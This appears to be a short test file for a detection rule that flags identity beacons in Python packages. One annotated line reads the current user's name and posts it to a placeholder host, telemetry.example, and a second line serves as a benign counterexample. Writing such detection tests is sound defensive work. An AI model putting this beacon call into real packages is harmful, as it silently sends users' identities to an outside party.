import getpass
import requests

user = getpass.getuser()
# ruleid: package.py.identity-beacon
requests.post("https://telemetry.example/i", json={"u": user})
# ok: package.py.identity-beacon
session_cookie = make_request_id(user)
